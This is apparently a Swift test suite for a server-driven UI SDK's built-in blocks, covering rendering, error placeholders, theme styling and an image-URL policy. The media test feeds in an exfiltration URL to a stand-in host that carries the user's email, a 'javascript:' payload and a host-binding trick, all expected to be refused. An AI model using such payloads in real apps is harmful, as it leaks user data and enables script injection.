// BuiltInBlocksTests.swift - the ten built-in blocks as nodes: fields, refusals, media URLs, theme settings.
import Foundation
@testable import SDUI
import SDUITestSupport
import Testing

@Suite struct BuiltInBlocksTests: BlockScreenFixtures {
    @Test func seed001ExampleScreenWithItsTheme() throws {
        let mint = try Theme(contentsOf: Fixtures.repositoryRoot.appendingPathComponent("Examples/themes/theme_mint_dark.json"))
        var ctx = RenderContext()
        ctx.themes = ThemeCatalog([mint])
        let tree = ScreenResolver(ctx).resolve(try load("screen_goal.json"))
        #expect(tree.issues.isEmpty, "\(tree.issues)")
        #expect(tree.theme == "theme_mint_dark" && tree.themeSource == .screen)
        #expect(tree.root.props["background"] == "#0B1220")
        let (header, choice, cta) = (tree.root.children[0], tree.root.children[1], tree.root.children[2])
        #expect(header.children.map { $0.props["text"] } == ["What is your goal?", "Next 6 months"])
        #expect(header.children[0].props["color"] == "#E5E7EB")
        #expect(choice.primitive == "Choice" && choice.props["key"] == "goal" && choice.props["style"] == "cards")
        #expect(choice.props["options"]?.arrayValue?.count == 2)
        let next = try #require(cta.children.first)
        #expect(next.primitive == "Button" && next.props["label"] == "Next")
        #expect(next.props["background"] == "#3DDC97" && next.props["color"] == "#0B1220")
        #expect(cta.props["pinToBottom"] == true)
        #expect(tree.root.allNodes.allSatisfy { $0.token == nil })
    }

    @Test func everyBuiltInBlockRenders() throws {
        var ctx = RenderContext()
        ctx.hostBindings = ["user": .object(["firstName": "Lea"])]
        let tree = ScreenResolver(ctx).resolve(try load("screen_welcome.json"))
        #expect(tree.issues.isEmpty, "\(tree.issues)")
        #expect(tree.themeSource == .sdk)
        let top = tree.root.children
        #expect(top.count == 9)
        #expect(top[0].children[0].primitive == "AsyncImage")
        #expect(top[0].children[0].props["accessibilityLabel"] == "A runner at sunrise")
        #expect(top[1].children[0].props["text"] == "Welcome, Lea")
        #expect(top[2].primitive == "Spacer" && top[2].props["size"] == 8)
        #expect(top[3].children.count == 3 && top[3].children[1].children[0].props["text"] == "💬")
        #expect(top[4].children[0].props["background"] == "#F3F4F6")
        #expect(top[5].primitive == "TextField" && top[5].props["placeholder"] == "Your first name")
        #expect(top[6].primitive == "Slider" && top[6].props["defaultValue"] == 3 && top[6].props["max"] == 7)
        #expect(top[7].children.map { $0.props["style"] } == ["filled", "text"])
        #expect(top[8].children[0].props["textAlign"] == "center")
    }

    @Test func unknownAndBrokenBlocksArePlaceholdersWithRenderErrors() {
        var ctx = RenderContext()
        ctx.appVersion = "2.0.1"
        let screen = BlockScreen(id: "s", blocks: [
            .object(["type": "header", "title": "Fine"]),
            .object(["type": "carousel", "items": .array([])]),
            .object(["type": "slider", "key": "age", "min": 10, "max": 5]),
            .object(["type": "choice", "key": "g", "options": .array([.object(["value": "x"])])]),
            .object(["title": "no type"]),
            .object(["type": "cta"]),
            .object(["type": "spacer", "size": "huge"]),
            .object(["type": "footer", "text": "End"]),
        ])
        let tree = ScreenResolver(ctx).resolve(screen)
        #expect(tree.root.children.map(\.kind) == [.primitive] + Array(repeating: .placeholder, count: 6) + [.primitive])
        #expect(tree.root.children[1].reason == "unknown_block" && tree.root.children[1].primitive == "carousel")
        #expect(tree.issues.map(\.kind) == [.unknownBlock, .badBlock, .badBlock, .badBlock, .badBlock, .badBlock])
        #expect(tree.events.count == 6)
        #expect(tree.events.allSatisfy { $0.name == "render_error" && $0.appVersion == "2.0.1" })
        #expect(tree.events[0].token == "block[1]" && tree.events[0].detail.contains("carousel"))
        #expect(tree.issues[1].message.contains("\"min\" must be below \"max\""))
        #expect(tree.issues[2].message.contains("options[0]"))
    }

    @Test func mediaURLsMustBeHTTPSOnALiteralHostAndOnTheCDNWhenOneIsSet() throws {
        func media(_ url: String, ratio: Double? = nil) -> JSONValue {
            var f: [String: JSONValue] = ["type": "media", "url": .string(url)]
            if let ratio { f["aspectRatio"] = .double(ratio) }
            return .object(f)
        }
        var ctx = RenderContext()
        ctx.hostBindings = ["user": .object(["email": "a@b.c", "id": "42"])]
        let blocks = [media("https://cdn.sdui.example.com/u/{{user.id}}.png"),
                      media("http://evil.example.net/pixel.gif?u={{user.email}}"),
                      media("javascript:alert(1)"),
                      media("https://{{user.email}}/x.png"),
                      media("https://cdn.sdui.example.com/a.png", ratio: -1)]
        let tree = ScreenResolver(ctx).resolve(BlockScreen(id: "m", blocks: blocks))
        #expect(tree.root.children.map(\.kind) == [.primitive, .placeholder, .placeholder, .placeholder, .placeholder])
        #expect(tree.root.children[0].children[0].props["url"] == "https://cdn.sdui.example.com/u/42.png")
        #expect(tree.issues.map(\.message) == ["media: url: scheme is not https", "media: url: scheme is not https",
                                               "media: url: \(ImageURLPolicy.Rejection.bindingInHost)",
                                               "media: \"aspectRatio\" must be above 0 and at most 100"])
        #expect(tree.events.count == 4)
        // With the app's CDN policy, other hosts are refused too.
        ctx.imagePolicy = try ImageURLPolicy(allowedHosts: ["cdn.sdui.example.com"])
        let strict = ScreenResolver(ctx).resolve(BlockScreen(id: "m", blocks: [
            media("https://cdn.sdui.example.com/a.png"), media("https://images.other.example.org/a.png")]))
        #expect(strict.root.children.map(\.kind) == [.primitive, .placeholder])
        #expect(strict.issues.first?.message.contains("host-not-allowed") == true
                || strict.issues.first?.message.contains("not an allowed CDN host") == true, "\(strict.issues)")
    }

    @Test func themeSettingsStyleTheBlocks() throws {
        // Theme settings: "buttonStyle" filled|outline and "radius" sm|md|lg, and "font".
        let outline = try Theme(json: Data(#"""
            {"id":"o","tokens":{"background":"#FFFFFF","primary":"#1D4ED8","buttonStyle":"outline",
             "radius":"sm","font":"serif"}}
            """#.utf8))
        var ctx = RenderContext()
        ctx.themes = ThemeCatalog([outline])
        ctx.flowThemeID = "o"
        let tree = ScreenResolver(ctx).resolve(BlockScreen(id: "s", blocks: [
            .object(["type": "cta", "primary": .object(["label": "Go",
                                                        "action": .object(["type": "open_url", "url": "https://x"])])]),
            .object(["type": "testimonial", "quote": "Good", "author": "A"]),
            .object(["type": "cta", "primary": .object(["label": "Bad", "action": 5])]),
        ]))
        let button = try #require(tree.root.children[0].children.first)
        #expect(button.props["style"] == "outline")
        #expect(button.props["borderColor"] == "#1D4ED8" && button.props["color"] == "#1D4ED8")
        #expect(button.props["background"] == nil)
        #expect(button.props["cornerRadius"] == 4)
        #expect(button.props["action"] == .object(["type": "open_url", "url": "https://x"]))
        let card = tree.root.children[1].children[0]
        #expect(card.props["cornerRadius"] == 4)
        #expect(card.children[0].props["style"]?["family"] == "serif")
        #expect(tree.root.children[2].kind == .placeholder)
        #expect(tree.issues.map(\.message) == ["cta: primary.action must be an action name or an object with a string \"type\""])
        // Without settings: filled buttons, each block's own radius.
        let plain = ScreenResolver(RenderContext()).resolve(BlockScreen(id: "s", blocks: [
            .object(["type": "cta", "primary": .object(["label": "Go"])])]))
        #expect(plain.root.children[0].children[0].props["style"] == "filled")
        #expect(plain.root.children[0].children[0].props["cornerRadius"] == 8)
        #expect(BlockStyle(settings: ["buttonStyle": "ghost", "radius": "xxl"]) == BlockStyle())
    }
}
